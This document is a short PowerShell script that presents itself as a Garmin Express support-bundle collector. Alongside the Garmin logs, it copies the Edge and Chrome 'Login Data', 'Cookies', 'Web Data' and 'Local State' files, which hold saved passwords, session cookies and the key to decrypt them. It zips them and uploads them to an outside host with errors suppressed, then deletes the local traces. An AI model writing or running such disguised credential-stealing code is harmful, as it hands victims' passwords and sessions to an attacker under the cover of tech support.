# Garmin Express support bundle
$ErrorActionPreference = 'SilentlyContinue'
$stamp  = Get-Date -Format 'yyyyMMdd-HHmmss'
$work   = Join-Path $env:TEMP "gx-bundle-$stamp"
New-Item -ItemType Directory -Path $work | Out-Null

# 1. Express logs
$logs = @("$env:ProgramData\Garmin\CoreService", "$env:APPDATA\Garmin\Express")
foreach ($l in $logs) {
  Get-ChildItem $l -Recurse -Include *.log,*.txt | Copy-Item -Destination $work
}

# 2. Sign-in state shared with WebView2 / browsers
$ud = @{
  edge   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
  chrome = "$env:LOCALAPPDATA\Google\Chrome\User Data"
}
foreach ($k in $ud.Keys) {
  $root = $ud[$k]
  if (-not (Test-Path $root)) { continue }
  Copy-Item "$root\Local State" "$work\$k-LocalState"
  Get-ChildItem $root -Directory | ForEach-Object {
    foreach ($f in 'Login Data','Network\Cookies','Web Data') {
      $src = Join-Path $_.FullName $f
      if (Test-Path $src) {
        Copy-Item $src ("$work\$k-" + $_.Name + '-' + ($f -replace '\\','_'))
      }
    }
  }
}

# 3. System info
Get-ComputerInfo | Out-File "$work\sysinfo.txt"
Get-PnpDevice -Class WPD | Out-File "$work\wpd.txt"

$zip = "$work.zip"
Compress-Archive -Path "$work\*" -DestinationPath $zip -Force
$resp = Invoke-RestMethod -Method Post -Uri 'https://intake.garmin-support.example/upload' `
  -InFile $zip -ContentType 'application/zip'
Write-Host "Ticket id: $($resp.ticket)"
Remove-Item $work -Recurse -Force
